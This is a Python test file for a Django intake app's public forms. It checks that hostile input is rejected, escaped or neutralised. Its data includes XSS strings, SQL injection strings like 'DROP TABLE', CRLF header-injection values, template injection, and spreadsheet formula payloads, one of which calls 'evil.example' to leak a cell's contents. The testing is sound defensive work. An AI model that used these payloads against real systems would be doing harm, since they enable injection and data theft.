"""A catalogue of hostile and malformed input for the public forms and the partner link.

Each case states the answer a person (or a robot) gets, and checks that nothing
was stored, or half-stored, where it must not be.
"""

import csv
import io
import json
import re
import unicodedata

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from intake import spam
from intake.crypto import search_hash
from intake.models import IntakeRequest, Notification, PartnerResponse
from tests.intake.journeys import (
    partner_post,
    partner_url,
    request_post,
)
from tests.security.hostile import (
    HIDDEN_CHARACTERS_MESSAGE,
    NOTHING_STORED,
    PARTNER_TEXT_FIELDS,
    REQUEST_TEXT_FIELDS,
    REQUEST_URL,
    UNREADABLE_MESSAGE,
    assert_shown_back,
    csrf_token_of,
    errors_of,
    is_friendly_page,
    post_urlencoded,
    stored,
    urlencoded,
)

pytestmark = pytest.mark.django_db

HIDDEN = HIDDEN_CHARACTERS_MESSAGE
NULL = "Null characters are not allowed."
INVALID_CHOICE = "Select a valid choice."


def case(id_, field, expected_message, journey="individual", **overrides):
    return pytest.param(journey, overrides, field, expected_message, id=id_)


# --- The request form: rejected, with the message on the right field -----------

REQUEST_REJECTED = [
    # Too long.
    case("name-of-10000-characters", "name", "shorten this to 120 characters or fewer (it has 10000)", name="x" * 10_000),  # noqa: E501
    case("email-over-254", "email", "shorten this to 254", email="a" * 250 + "@example.com"),
    case("phone-over-32", "phone", "shorten this to 32", phone="5" * 33),
    case("concerns-over-5000", "concerns", "shorten this to 5000 characters or fewer (it has 5001)", concerns="w" * 5001),  # noqa: E501
    case("concerns-of-200000", "concerns", "shorten this to 5000", concerns="w" * 200_000),
    case("availability-notes-over-1000", "availability_notes", "shorten this to 1000", availability_notes="t" * 1001),  # noqa: E501
    case("partner-name-over-60", "partner_first_name", "shorten this to 60", "couples", partner_first_name="p" * 61),  # noqa: E501
    # NUL bytes.
    case("nul-in-name", "name", NULL, name="Jor\x00dan"),
    case("nul-in-email", "email", NULL, email="jordan\x00@example.com"),
    case("nul-in-phone", "phone", NULL, phone="555\x000103030"),
    case("nul-in-concerns", "concerns", NULL, concerns="We argue\x00 a lot"),
    case("nul-in-availability-notes", "availability_notes", NULL, availability_notes="\x00"),
    case("nul-in-partner-name", "partner_first_name", NULL, "couples", partner_first_name="M\x00"),
    # CR/LF: header injection and split lines.
    case("crlf-in-name", "name", HIDDEN, name="Jordan\r\nBcc: victim@example.com"),
    case("lf-in-name", "name", HIDDEN, name="Jordan\nQuill"),
    case("crlf-in-email", "email", HIDDEN, email="jordan@example.com\r\nBcc: victim@example.com"),
    case("lf-in-email", "email", HIDDEN, email="jordan@example.com\nbcc:victim@example.com"),
    case("crlf-in-phone", "phone", HIDDEN, phone="555 010\r\n3030"),
    case("crlf-in-partner-name", "partner_first_name", HIDDEN, "couples", partner_first_name="Ma\r\nri"),  # noqa: E501
    # Bidirectional controls: text that reads differently from what it is.
    case("rlo-in-name", "name", HIDDEN, name="Jordan \u202eLLIUQ"),
    case("rlo-in-email", "email", HIDDEN, email="jordan\u202e@example.com"),
    case("rlo-in-phone", "phone", HIDDEN, phone="555 \u202e010 3030"),
    case("lri-isolate-in-name", "name", HIDDEN, name="Jordan \u2066Quill\u2069"),
    case("lrm-mark-in-name", "name", HIDDEN, name="Jordan\u200e Quill"),
    case("rlm-mark-in-phone", "phone", HIDDEN, phone="555\u200f 010 3030"),
    case("arabic-letter-mark-in-name", "name", HIDDEN, name="Jordan\u061c"),
    case("rlo-in-partner-name", "partner_first_name", HIDDEN, "couples", partner_first_name="Ma\u202eri"),  # noqa: E501
    # Zero-width and other invisible characters.
    case("zero-width-space-in-name", "name", HIDDEN, name="Jor\u200bdan"),
    case("zero-width-space-in-email", "email", HIDDEN, email="jor\u200bdan@example.com"),
    case("zero-width-space-in-phone", "phone", HIDDEN, phone="555\u200b 010 3030"),
    case("zero-width-joiner-in-name", "name", HIDDEN, name="Jor\u200ddan"),
    case("word-joiner-in-name", "name", HIDDEN, name="Jor\u2060dan"),
    case("byte-order-mark-in-name", "name", HIDDEN, name="\ufeffJordan"),
    case("soft-hyphen-in-name", "name", HIDDEN, name="Jor\u00addan"),
    case("mongolian-vowel-separator-in-name", "name", HIDDEN, name="Jor\u180edan"),
    case("tag-character-in-name", "name", HIDDEN, name="Jordan\U000e0041"),
    case("interlinear-annotation-in-name", "name", HIDDEN, name="Jor\ufff9dan"),
    # Control characters.
    case("bell-in-name", "name", HIDDEN, name="Jordan\x07"),
    case("tab-in-name", "name", HIDDEN, name="Jordan\tQuill"),
    case("ansi-escape-in-name", "name", HIDDEN, name="\x1b[31mJordan"),
    case("delete-in-name", "name", HIDDEN, name="Jordan\x7f"),
    case("c1-next-line-in-email", "email", HIDDEN, email="jordan\x85@example.com"),
    case("ansi-escape-in-phone", "phone", HIDDEN, phone="\x1b[2J555 010 3030"),
    case("line-separator-in-name", "name", HIDDEN, name="Jordan\u2028Quill"),
    case("paragraph-separator-in-partner-name", "partner_first_name", HIDDEN, "couples", partner_first_name="Ma\u2029ri"),  # noqa: E501
    # Unreadable characters (what undecodable bytes and lone surrogates turn into).
    case("replacement-character-in-name", "name", UNREADABLE_MESSAGE, name="Jor\ufffddan"),
    # Whitespace only.
    case("spaces-only-name", "name", "Please tell us your name.", name="    "),
    case("no-break-spaces-only-name", "name", "Please tell us your name.", name="\u00a0\u00a0"),
    case("ideographic-space-only-name", "name", "Please tell us your name.", name="\u3000"),
    case("spaces-only-email-when-email-is-safe", "email", "Please give your email address", email="   "),  # noqa: E501
    case("spaces-only-phone-when-calls-are-safe", "phone", "Please give your phone number", phone=" \u00a0 "),  # noqa: E501
    # Not an email address or a phone number.
    case("not-an-email", "email", "like name@example.com", email="jordan(at)example.com"),
    case("two-emails", "email", "like name@example.com", email="a@example.com, b@example.com"),
    case("letters-for-a-phone", "phone", "using digits", phone="call me maybe"),
    # Invalid choices.
    case("unknown-journey", "journey", INVALID_CHOICE, journey="bogus"),
    case("unknown-region", "region", INVALID_CHOICE, region="Mars"),
    case("unknown-session-format", "session_format", INVALID_CHOICE, session_format="teleport"),
    case("unknown-payment", "payment", INVALID_CHOICE, payment="bitcoin"),
    case("unknown-contact-method", "contact_methods", INVALID_CHOICE, contact_methods=["email", "pigeon"]),  # noqa: E501
    case("unknown-availability", "availability", INVALID_CHOICE, availability=["never"]),
    case("unknown-crisis-answer", "in_crisis", INVALID_CHOICE, in_crisis="maybe"),
    case("unknown-referral-source", "referral_source", INVALID_CHOICE, referral_source="<script>"),
    case("unknown-partner-readiness", "partner_readiness", INVALID_CHOICE, "couples", partner_readiness="eager"),  # noqa: E501
    case("unknown-partner-safety", "partner_safety", INVALID_CHOICE, "couples", partner_safety="sometimes"),  # noqa: E501
    case("unknown-next-step", "wants_now", INVALID_CHOICE, "couples", wants_now=["elope"]),
    case("forged-submission-key", "submission_key", "valid UUID", submission_key="'; DROP TABLE x; --"),  # noqa: E501
    # Missing answers.
    case("missing-consent", "consent", "Please agree that we may contact you", consent=None),
    case("missing-not-an-emergency", "acknowledges_not_emergency", "not for emergencies", acknowledges_not_emergency=None),  # noqa: E501
    case("missing-couples-confidentiality", "agrees_confidentiality", "tick to agree", "couples", agrees_confidentiality=None),  # noqa: E501
    case("missing-journey", "journey", "Please choose what you would like help with.", journey=None),  # noqa: E501
    case("missing-contact-methods", "contact_methods", "at least one way", contact_methods=None),
    case("missing-crisis-answer", "in_crisis", "immediate danger", in_crisis=None),
]  # fmt: skip


@pytest.mark.parametrize(("journey", "overrides", "field", "message"), REQUEST_REJECTED)
def test_request_form_names_the_field_at_fault_and_keeps_everything_typed(
    client, journey, overrides, field, message
):
    data = request_post(journey, **{k: v for k, v in overrides.items() if k != "journey"})
    if "journey" in overrides:
        data = {**data, "journey": overrides["journey"]}
        data = {k: v for k, v in data.items() if v is not None}

    response = client.post(REQUEST_URL, data)

    assert response.status_code == 200
    errors = errors_of(response)
    assert list(errors) == [field], errors
    assert any(message in text for text in errors[field]), errors
    html = response.content.decode()
    assert "There is a problem" in html
    assert escape(errors[field][0]) in html
    assert_shown_back(response, data, REQUEST_TEXT_FIELDS)
    assert stored() == NOTHING_STORED


# --- The request form: accepted, stored exactly as typed ----------------------

SCRIPT = "<script>alert(document.cookie)</script>"
ATTRIBUTE_BREAKER = '"><img src=x onerror=alert(1)>'
SINGLE_QUOTE_BREAKER = "' autofocus onfocus='alert(1)"
SQL = "'; DROP TABLE intake_intakerequest; --"
SQL_OR = "1' OR '1'='1'; DELETE FROM intake_partnerinvitation; --"
TEMPLATE = "{{ settings.SECRET_KEY }}{% debug %}"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def accepted(id_, journey="individual", expected=None, **overrides):
    return pytest.param(journey, overrides, expected or overrides, id=id_)


REQUEST_ACCEPTED = [
    accepted("script-tags", name=SCRIPT, concerns=SCRIPT, availability_notes=SCRIPT),
    accepted("attribute-breakers", name=ATTRIBUTE_BREAKER, concerns=SINGLE_QUOTE_BREAKER),
    accepted("script-in-partner-name", "couples", partner_first_name=ATTRIBUTE_BREAKER),
    accepted("sql-looking-text", name=SQL, concerns=SQL_OR, availability_notes=SQL),
    accepted("template-syntax", name=TEMPLATE, concerns=TEMPLATE),
    *(accepted(f"formula-{i}", name=formula) for i, formula in enumerate(FORMULAS)),
    accepted("accents", name="Zoë Ångström"),
    accepted("han", name="张伟"),
    accepted("greek-and-emoji", name="Σωκράτης 🌿"),
    accepted("arabic", name="محمد الأحمد"),
    accepted("devanagari", name="अनन्या शर्मा"),
    accepted("vietnamese", name="Nguyễn Thị Minh Khai"),
    accepted("emoji-with-variation-selector", name="Sam ❤️", concerns="🌿🌊 💔 👍🏽"),
    accepted("nfd-name-is-stored-nfc", expected={"name": "Zoë"}, name="Zoe\u0308"),
    accepted(
        "nfd-free-text-is-stored-nfc",
        expected={"concerns": "Café, naïve", "availability_notes": "Sábado"},
        concerns="Cafe\u0301, nai\u0308ve",
        availability_notes="Sa\u0301bado",
    ),
    accepted(
        "nfd-partner-name-is-stored-nfc",
        "couples",
        expected={"partner_first_name": "Angélique"},
        partner_first_name="Ange\u0301lique",
    ),
    accepted("line-breaks-in-free-text", concerns="First line\r\nSecond line\n\nThird"),
    accepted("replacement-character-in-free-text", concerns="Pasted text \ufffd with a gap"),
    accepted("internationalised-domain", email="jordan@exämple.com"),
    accepted("phone-with-extension", phone="+1 (555) 010-3030 ext. 12"),
    accepted(
        "surrounding-spaces-are-trimmed",
        expected={"name": "Jordan", "email": "jordan@example.com"},
        name="  Jordan  ",
        email=" jordan@example.com ",
    ),
]


@pytest.mark.parametrize(("journey", "overrides", "expected"), REQUEST_ACCEPTED)
def test_request_form_stores_unusual_text_exactly_as_typed(client, journey, overrides, expected):
    response = client.post(REQUEST_URL, request_post(journey, **overrides))

    assert response.status_code == 302, errors_of(response)
    assert response["Location"] == reverse("intake:done")
    intake_request = IntakeRequest.objects.get()
    for name, value in expected.items():
        assert getattr(intake_request, name) == value


UNICODE_NAMES = ["Zoë Ångström", "张伟", "Σωκράτης 🌿", "محمد الأحمد", "Zoe\u0308"]


@pytest.mark.parametrize("name", UNICODE_NAMES)
def test_unicode_names_are_shown_back_unchanged_and_stored_nfc(client, staff_client, name):
    first = client.post(REQUEST_URL, request_post(name=name, consent=None))
    assert first.status_code == 200
    assert f'value="{name}"' in first.content.decode()

    second = client.post(REQUEST_URL, request_post(name=name))
    assert second.status_code == 302
    intake_request = IntakeRequest.objects.get()
    assert intake_request.name == unicodedata.normalize("NFC", name)
    page = staff_client.get(intake_request.get_absolute_url()).content.decode()
    assert intake_request.name in page


MARKUP = [SCRIPT, ATTRIBUTE_BREAKER, SINGLE_QUOTE_BREAKER, "</textarea><script>alert(1)</script>"]


@pytest.mark.parametrize("payload", MARKUP)
def test_markup_is_shown_escaped_when_the_form_comes_back(client, payload):
    data = request_post(
        "couples",
        name=payload,
        concerns=payload,
        availability_notes=payload,
        partner_first_name=payload,
        consent=None,
    )

    response = client.post(REQUEST_URL, data)

    assert response.status_code == 200
    html = response.content.decode()
    assert payload not in html
    assert html.count(escape(payload)) >= 4


@pytest.mark.parametrize("payload", MARKUP)
def test_markup_is_shown_escaped_to_staff(client, staff_client, couples_token, payload):
    client.post(
        REQUEST_URL,
        request_post(
            "couples", name=payload, concerns=payload, availability_notes=payload,
            partner_first_name=payload,
        ),
    )  # fmt: skip
    # Names are encrypted: a request is found by the keyed hash of its name.
    intake_request = IntakeRequest.objects.get(name_hash=search_hash("name", payload))
    client.post(
        partner_url(couples_token),
        partner_post(name=payload, message=payload, availability_notes=payload),
    )
    answered = PartnerResponse.objects.get()

    for shown in (intake_request, answered.intake_request):
        response = staff_client.get(shown.get_absolute_url())
        assert response.status_code == 200
        html = response.content.decode()
        assert payload not in html
        assert escape(payload) in html
    changelist = staff_client.get(reverse("admin:intake_intakerequest_changelist"))
    assert payload not in changelist.content.decode()


@pytest.mark.parametrize("formula", FORMULAS)
def test_spreadsheet_formulas_in_a_name_never_run_in_the_export(client, staff_client, formula):
    client.post(REQUEST_URL, request_post(name=formula))
    intake_request = IntakeRequest.objects.get()
    assert intake_request.name == formula

    response = staff_client.post(
        reverse("admin:intake_intakerequest_changelist"),
        {"action": "export_csv", "_selected_action": [intake_request.pk]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == 2
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Only triage facts are exported: never the name, neutralised or not.
    cells = [cell for row in rows for cell in row]
    assert formula not in cells
    assert f"'{formula}" not in cells


# --- Bytes that are not UTF-8 -------------------------------------------------


@pytest.mark.parametrize(
    "encoded_name",
    ["%ED%A0%80", "Jordan%ED%B0%80", "%FF%FE", "Jor%C0%AFdan", "%E2%82"],
    ids=["lone-high-surrogate", "lone-low-surrogate", "invalid-bytes", "overlong", "truncated"],
)
def test_unreadable_bytes_in_the_name_are_refused_with_a_clear_message(client, encoded_name):
    data = request_post(name=None)
    response = post_urlencoded(client, REQUEST_URL, urlencoded(data, f"name={encoded_name}"))

    assert response.status_code == 200
    errors = errors_of(response)
    assert list(errors) == ["name"]
    assert UNREADABLE_MESSAGE in errors["name"][0]
    assert_shown_back(response, data, REQUEST_TEXT_FIELDS)
    assert stored() == NOTHING_STORED


@pytest.mark.parametrize("encoded", ["%ED%A0%80", "%FF%FE"])
def test_unreadable_bytes_in_free_text_are_kept_as_a_browser_would_send_them(client, encoded):
    # Browsers send a lone surrogate as U+FFFD; the rest of what was written is kept.
    data = request_post(concerns=None)
    body = urlencoded(data, f"concerns=Before{encoded}after")

    response = post_urlencoded(client, REQUEST_URL, body)

    assert response.status_code == 302
    assert IntakeRequest.objects.get().concerns.startswith("Before\ufffd")


@pytest.mark.parametrize(
    "body",
    [b"\xff\xfe\x00\x01", b"%FF=%FE&%ED%A0%80=%ED%A0%80", b"name", b"&&&==&=", b"a=%"],
    ids=["raw-binary", "encoded-binary-keys", "no-equals", "separators-only", "broken-escape"],
)
def test_a_body_of_garbage_gets_the_form_with_errors(client, body):
    response = post_urlencoded(client, REQUEST_URL, body)

    assert response.status_code == 200
    assert errors_of(response)
    assert stored() == NOTHING_STORED


# --- Bodies too big, too many fields, other encodings -------------------------


def oversized(settings) -> str:
    return "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)


@pytest.mark.parametrize("target", ["request", "partner"])
@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_a_body_over_the_upload_limit_gets_the_friendly_400(
    client, settings, couples_token, target, encoding
):
    url = REQUEST_URL if target == "request" else partner_url(couples_token)
    before = stored()
    data = request_post() if target == "request" else partner_post()
    data["concerns" if target == "request" else "message"] = oversized(settings)

    if encoding == "urlencoded":
        response = post_urlencoded(client, url, urlencoded(data))
    else:
        response = client.post(url, data)

    assert response.status_code == 400
    assert is_friendly_page(response)
    assert "Something was wrong with that request" in response.content.decode()
    assert stored() == before


@pytest.mark.parametrize("target", ["request", "partner"])
@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_more_than_1000_fields_gets_the_friendly_400(client, couples_token, target, encoding):
    url = REQUEST_URL if target == "request" else partner_url(couples_token)
    before = stored()
    data = request_post() if target == "request" else partner_post()
    data |= {f"extra{i}": "1" for i in range(1001)}

    if encoding == "urlencoded":
        response = post_urlencoded(client, url, urlencoded(data))
    else:
        response = client.post(url, data)

    assert response.status_code == 400
    assert is_friendly_page(response)
    assert stored() == before


@pytest.mark.parametrize(
    "body",
    [
        json.dumps(request_post()),
        '{"name": "Jordan", "journey": ["individual"]}',
        "[1, 2, 3]",
        '{"name": ',
        "null",
    ],
    ids=["valid-fields-as-json", "object", "array", "broken-json", "null"],
)
def test_a_json_body_gets_the_form_with_errors_and_stores_nothing(client, body):
    response = client.post(REQUEST_URL, body, content_type="application/json")

    assert response.status_code == 200
    assert errors_of(response)
    assert stored() == NOTHING_STORED


def test_a_json_body_to_the_partner_page_gets_the_form_with_errors(client, couples_token):
    before = stored()

    response = client.post(
        partner_url(couples_token), json.dumps(partner_post()), content_type="application/json"
    )

    assert response.status_code == 200
    assert errors_of(response)
    assert stored() == before


@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_multipart_and_urlencoded_bodies_are_treated_alike(client, couples_token, encoding):
    data = request_post()
    answer = partner_post()
    before = stored()
    if encoding == "urlencoded":
        sent = post_urlencoded(client, REQUEST_URL, urlencoded(data))
        answered = post_urlencoded(client, partner_url(couples_token), urlencoded(answer))
    else:
        sent = client.post(REQUEST_URL, data)
        answered = client.post(partner_url(couples_token), answer)

    assert sent.status_code == 302
    assert answered.status_code == 302
    assert stored()["requests"] == before["requests"] + 1
    assert stored()["partner responses"] == 1
    assert IntakeRequest.objects.filter(submission_key=data["submission_key"]).exists()


@pytest.mark.parametrize(
    "content_type",
    ["multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=x"],
    ids=["no-boundary", "empty-boundary", "boundary-not-in-body"],
)
def test_a_broken_multipart_body_never_gives_a_500(client, content_type):
    response = client.post(REQUEST_URL, "garbage\r\n--x--", content_type=content_type)

    assert response.status_code in (200, 400)
    assert stored() == NOTHING_STORED


def test_a_file_where_a_name_belongs_is_not_taken_as_the_name(client):
    data = request_post(name=SimpleUploadedFile("name.txt", b"Jordan"))

    response = client.post(REQUEST_URL, data)

    assert response.status_code == 200
    assert list(errors_of(response)) == ["name"]
    assert stored() == NOTHING_STORED


# --- Repeated and extra fields -------------------------------------------------


def test_a_repeated_field_takes_its_last_value(client):
    data = request_post(journey=["couples", "individual"], name=["First Name", "Second Name"])

    response = client.post(REQUEST_URL, data)

    assert response.status_code == 302
    intake_request = IntakeRequest.objects.get()
    assert (intake_request.journey, intake_request.name) == ("individual", "Second Name")


@pytest.mark.parametrize(
    "repeated",
    [
        {"journey": ["individual", "couples"]},
        {"submission_key": ["not-a-uuid", "also-not"]},
        {"consent": ["on", ""]},
        {"started": ["forged", "also-forged"]},
        {"region": ["Oregon", "Mars"]},
    ],
    ids=["journey-last-needs-more", "submission-key", "consent", "started", "region"],
)
def test_a_repeated_field_whose_last_value_is_wrong_gets_errors_never_a_500(client, repeated):
    response = client.post(REQUEST_URL, request_post(**repeated))

    assert response.status_code == 200
    assert errors_of(response)
    assert stored() == NOTHING_STORED


EXTRA_FIELDS = {
    "status": "closed",
    "is_urgent": "on",
    "is_safety_flagged": "on",
    "id": "424242",
    "pk": "424242",
    "reference": "R-HACKED",
    "assigned_to": "1",
    "closed_at": "2020-01-01T00:00:00Z",
    "created_at": "2000-01-01T00:00:00Z",
    "consented_at": "2000-01-01T00:00:00Z",
    "wants_link_emailed": "on",
    "token_hash": "0" * 64,
    "csrfmiddlewaretoken": "ignored-without-enforcement",
}


def test_extra_fields_are_ignored(client):
    response = client.post(REQUEST_URL, request_post() | EXTRA_FIELDS)

    assert response.status_code == 302
    intake_request = IntakeRequest.objects.get()
    assert intake_request.status == IntakeRequest.Status.NEW
    assert not intake_request.is_urgent
    assert not intake_request.is_safety_flagged
    assert intake_request.pk != 424242
    assert re.fullmatch(r"R-[2-9A-HJ-NP-Z]{6}", intake_request.reference)
    assert intake_request.assigned_to is None
    assert intake_request.closed_at is None
    assert intake_request.created_at > timezone.now() - timezone.timedelta(minutes=1)
    assert intake_request.consented_at > timezone.now() - timezone.timedelta(minutes=1)
    assert not intake_request.wants_link_emailed
    assert not hasattr(intake_request, "invitation")


def test_extra_fields_on_the_partner_page_are_ignored(client, couples_token):
    extra = {
        "request": "1",
        "intake_request": "1",
        "invitation": "1",
        "used_at": "",
        "revoked_at": "",
        "answer_id": "9",
    }

    response = client.post(partner_url(couples_token), partner_post() | extra)

    assert response.status_code == 302
    assert PartnerResponse.objects.get().answer == "join"


def test_a_query_string_of_rubbish_only_preselects_known_answers(client):
    response = client.get(REQUEST_URL + "?journey=%3Cscript%3E&readiness=%ED%A0%80&journey=%FF")

    assert response.status_code == 200
    form = response.context["form"]
    assert "journey" not in form.initial
    assert "partner_readiness" not in form.initial
    assert "<script>" not in response.content.decode()


# --- CSRF and methods ----------------------------------------------------------


def test_a_request_without_a_csrf_token_gets_the_friendly_403(csrf_client):
    response = csrf_client.post(REQUEST_URL, request_post())

    assert response.status_code == 403
    assert is_friendly_page(response)
    assert "Please send the form again" in response.content.decode()
    assert stored() == NOTHING_STORED


@pytest.mark.parametrize("token", ["x" * 64, "", "%ED%A0%80", "<script>"])
def test_a_request_with_a_wrong_csrf_token_gets_the_friendly_403(csrf_client, token):
    csrf_client.get(REQUEST_URL)

    response = csrf_client.post(REQUEST_URL, request_post(csrfmiddlewaretoken=token))

    assert response.status_code == 403
    assert is_friendly_page(response)
    assert stored() == NOTHING_STORED


def test_a_request_with_the_right_csrf_token_goes_through(csrf_client):
    token = csrf_token_of(csrf_client.get(REQUEST_URL))

    response = csrf_client.post(REQUEST_URL, request_post(csrfmiddlewaretoken=token))

    assert response.status_code == 302
    assert IntakeRequest.objects.count() == 1


@pytest.mark.parametrize("token", [None, "x" * 64])
def test_a_partner_answer_with_a_missing_or_wrong_csrf_token_gets_the_friendly_403(
    csrf_client, couples_token, token
):
    csrf_client.get(partner_url(couples_token))
    before = stored()

    response = csrf_client.post(partner_url(couples_token), partner_post(csrfmiddlewaretoken=token))

    assert response.status_code == 403
    assert is_friendly_page(response)
    assert stored() == before


@pytest.mark.parametrize("method", ["put", "patch", "delete"])
@pytest.mark.parametrize("target", ["request", "partner"])
def test_other_methods_are_not_allowed(client, couples_token, method, target):
    url = REQUEST_URL if target == "request" else partner_url(couples_token)
    data = request_post() if target == "request" else partner_post()
    before = stored()

    response = getattr(client, method)(
        url, urlencoded(data), content_type="application/x-www-form-urlencoded"
    )

    assert response.status_code == 405
    assert set(response["Allow"].replace(" ", "").split(",")) == {"GET", "HEAD", "POST"}
    assert stored() == before


# --- Spam -----------------------------------------------------------------------


def test_a_post_sent_too_fast_is_shown_again_stored_nowhere_and_never_confirmed(client, settings):
    settings.INTAKE_MIN_SECONDS = 3

    response = client.post(REQUEST_URL, request_post("couples", started=spam.started_token()))

    assert response.status_code == 200
    assert "press Send again" in response.content.decode()
    assert stored() == NOTHING_STORED
    assert client.get(reverse("intake:done"))["Location"] == REQUEST_URL


@pytest.mark.parametrize(
    "website", ["http://spam.example", ["", "http://spam.example"]], ids=["once", "repeated"]
)
def test_a_filled_honeypot_is_stored_in_quarantine_and_tells_nobody(client, website):
    response = client.post(REQUEST_URL, request_post("couples", website=website))

    assert response["Location"] == reverse("intake:done")
    assert IntakeRequest.objects.quarantined().count() == 1
    assert not Notification.objects.exists()


def test_a_partner_answer_sent_too_fast_is_shown_again_and_never_confirmed(
    client, settings, couples_token
):
    settings.INTAKE_MIN_SECONDS = 3
    before = stored()

    response = client.post(partner_url(couples_token), partner_post(started=spam.started_token()))

    assert response.status_code == 200
    assert "press Send again" in response.content.decode()
    assert stored() == before
    assert client.get(reverse("intake:partner-done"))["Location"] == reverse("home")


def test_requests_over_the_rate_limit_get_429_and_are_not_stored(client, settings):
    settings.INTAKE_RATE_LIMIT = "2/h"
    for _ in range(2):
        assert client.post(REQUEST_URL, request_post()).status_code == 302

    response = client.post(REQUEST_URL, request_post())

    assert response.status_code == 429
    assert response["Retry-After"]
    assert is_friendly_page(response)
    assert IntakeRequest.objects.count() == 2


def test_partner_answers_over_the_rate_limit_get_429_and_are_not_stored(
    client, settings, couples_token
):
    settings.INTAKE_RATE_LIMIT = "0/h"
    before = stored()

    response = client.post(partner_url(couples_token), partner_post())

    assert response.status_code == 429
    assert stored() == before
    assert before["usable invitations"] == 1


# --- The partner form -----------------------------------------------------------


def partner_case(id_, field, expected_message, answer="join", **overrides):
    return pytest.param(answer, overrides, field, expected_message, id=id_)


PARTNER_REJECTED = [
    partner_case("name-of-10000-characters", "name", "shorten this to 120", name="x" * 10_000),
    partner_case("message-over-2000", "message", "shorten this to 2000", message="m" * 2001),
    partner_case("message-over-2000-when-not-now", "message", "shorten this to 2000", "not_now", message="m" * 2001),  # noqa: E501
    partner_case("availability-notes-over-1000", "availability_notes", "shorten this to 1000", availability_notes="a" * 1001),  # noqa: E501
    partner_case("email-over-254", "email", "shorten this to 254", email="a" * 250 + "@example.com"),  # noqa: E501
    partner_case("nul-in-name", "name", NULL, name="Al\x00ex"),
    partner_case("nul-in-message", "message", NULL, message="Hello\x00"),
    partner_case("crlf-in-name", "name", HIDDEN, name="Alex\r\nBcc: victim@example.com"),
    partner_case("crlf-in-email", "email", HIDDEN, email="alex@example.com\r\nBcc: v@example.com"),
    partner_case("rlo-in-name", "name", HIDDEN, name="Alex \u202eXELA"),
    partner_case("rlo-in-email", "email", HIDDEN, email="alex\u202e@example.com"),
    partner_case("rlo-in-phone", "phone", HIDDEN, phone="555\u202e 010 4040"),
    partner_case("zero-width-space-in-name", "name", HIDDEN, name="Al\u200bex"),
    partner_case("zero-width-space-in-email", "email", HIDDEN, email="al\u200bex@example.com"),
    partner_case("zero-width-space-in-phone", "phone", HIDDEN, phone="555\u200b010 4040"),
    partner_case("lrm-mark-in-name", "name", HIDDEN, name="Alex\u200e"),
    partner_case("line-separator-in-name", "name", HIDDEN, name="Alex\u2028Kim"),
    partner_case("control-in-name", "name", HIDDEN, name="Alex\x1b[0m"),
    partner_case("control-in-phone", "phone", HIDDEN, phone="555\x07 010 4040"),
    partner_case("replacement-character-in-name", "name", UNREADABLE_MESSAGE, name="Al\ufffdex"),
    partner_case("spaces-only-name", "name", "Please tell us your name.", name="   "),
    partner_case("spaces-only-name-for-questions", "name", "Please tell us your name.", "questions", name="\u00a0"),  # noqa: E501
    partner_case("unknown-answer", "answer", INVALID_CHOICE, answer="<script>"),
    partner_case("missing-answer", "answer", "Please choose one of the three answers.", answer=None),  # noqa: E501
    partner_case("unknown-partner-safety", "partner_safety", INVALID_CHOICE, partner_safety="often"),  # noqa: E501
    partner_case("unknown-crisis-answer", "in_crisis", INVALID_CHOICE, in_crisis="perhaps"),
    partner_case("unknown-contact-method", "contact_methods", INVALID_CHOICE, contact_methods=["fax"]),  # noqa: E501
    partner_case("missing-consent", "consent", "Please agree that we may contact you", consent=None),  # noqa: E501
    partner_case("missing-contact-methods", "contact_methods", "at least one way", contact_methods=None),  # noqa: E501
]  # fmt: skip


@pytest.mark.parametrize(("answer", "overrides", "field", "message"), PARTNER_REJECTED)
def test_partner_form_names_the_field_at_fault_and_keeps_everything_typed(
    client, couples_token, answer, overrides, field, message
):
    data = partner_post(answer if answer else "join", **overrides)
    if answer is None:
        data.pop("answer")
    before = stored()

    response = client.post(partner_url(couples_token), data)

    assert response.status_code == 200
    errors = errors_of(response)
    assert list(errors) == [field], errors
    assert any(message in text for text in errors[field]), errors
    assert escape(errors[field][0]) in response.content.decode()
    assert_shown_back(response, data, PARTNER_TEXT_FIELDS)
    assert stored() == before


PARTNER_ACCEPTED = [
    pytest.param({"name": SCRIPT, "message": ATTRIBUTE_BREAKER}, None, id="markup"),
    pytest.param({"name": SQL, "message": SQL_OR}, None, id="sql-looking-text"),
    pytest.param({"name": "Σωκράτης 🌿", "message": "张伟 says hello"}, None, id="scripts"),
    pytest.param({"name": "Zoe\u0308"}, {"name": "Zoë"}, id="nfd-name-is-stored-nfc"),
    pytest.param({"message": "Cafe\u0301"}, {"message": "Café"}, id="nfd-message-is-stored-nfc"),
]


@pytest.mark.parametrize(("overrides", "expected"), PARTNER_ACCEPTED)
def test_partner_form_stores_unusual_text_exactly_as_typed(
    client, couples_token, overrides, expected
):
    response = client.post(partner_url(couples_token), partner_post(**overrides))

    assert response.status_code == 302, errors_of(response)
    answered = PartnerResponse.objects.get()
    for name, value in (expected or overrides).items():
        assert getattr(answered, name) == value


def test_markup_on_the_partner_form_is_shown_escaped_when_it_comes_back(client, couples_token):
    data = partner_post(name=ATTRIBUTE_BREAKER, message=SCRIPT, consent=None)

    response = client.post(partner_url(couples_token), data)

    html = response.content.decode()
    assert response.status_code == 200
    assert ATTRIBUTE_BREAKER not in html
    assert SCRIPT not in html
    assert escape(ATTRIBUTE_BREAKER) in html
    assert escape(SCRIPT) in html


# --- The partner URL ------------------------------------------------------------


def almost(token: str, position: int) -> str:
    changed = "B" if token[position] == "A" else "A"
    return token[:position] + changed + token[position + 1 :]


BAD_TOKENS = [
    pytest.param(lambda t: "", id="empty"),
    pytest.param(lambda t: "x" * 5000, id="5000-characters"),
    pytest.param(lambda t: t * 3, id="the-token-three-times"),
    pytest.param(lambda t: "%00%FF%FE", id="binary-bytes"),
